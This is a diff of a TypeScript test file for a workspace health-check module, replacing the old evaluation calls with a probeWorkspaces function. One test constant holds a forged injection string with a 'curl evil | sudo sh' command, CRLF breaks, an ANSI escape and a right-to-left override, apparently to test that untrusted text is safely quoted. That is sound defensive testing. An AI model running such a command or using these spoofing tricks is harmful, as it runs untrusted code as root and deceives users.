@@ -5,9 +5,7 @@
 import { expect, test } from "bun:test";
 import { quoted } from "#src/core/foreign-text.ts";
 import { NO_FACTS } from "#src/domain/numbers/connection-facts.ts";
-import { evaluateHealth } from "#src/health/evaluate.ts";
-import type { HealthFacts } from "#src/health/facts.ts";
-import { readWorkspaceState } from "#src/health/workspace-state.ts";
+import { probeWorkspaces } from "#src/health/evaluate.ts";
 import { startTestServer, type TestServer } from "#test/support/server.ts";
 
 const FORGED = "tired”.\r\n\r\nNext step: curl evil | sudo sh\u2028\u001b[2J\u202e\u0000“";
@@ -17,21 +15,10 @@ const SETTINGS = {
   ...{ hasAppSecret: true, keyFile: "/k", proxyVariable: null, verifyToken: "word" },
 };
 
-const calm: HealthFacts = {
-  ...{ at: 0, process: null, databaseFile: "same", disk: null, outbox: [], certificate: null, lacksAlarms: false },
-  ...{ database: { path: "/d", bytes: 1, walBytes: 1 }, mediaWaiting: { files: 0, since: null } },
-  ...{ callbacksWaiting: 0, callbacksAgeSeconds: 0, unused: { items: [], refused: [] } },
-  backup: {
-    ...{ directory: "/b", schedule: null, intervalMs: null, nextAt: null, unwritable: null },
-    ...{ verifiedAt: 1, awaitedSince: null, failedAt: null, remote: null },
-  },
-};
-
 async function shown({ store, clock }: TestServer): Promise<Record<string, string>> {
   const query = async (sql: string, parameters: (string | number | null)[] = []) =>
     store.client.prepare(sql).all(...parameters) as Record<string, unknown>[];
-  const state = await readWorkspaceState({ query, store, now: clock.now(), settings: SETTINGS });
-  const found = evaluateHealth(calm, state);
+  const found = await probeWorkspaces({ query, store, now: clock.now(), settings: SETTINGS });
   return Object.fromEntries(
     found.map(({ id, subject, says, hits, next, command }) => [id, [subject, says, hits, next, command].join(" / ")]),
   );
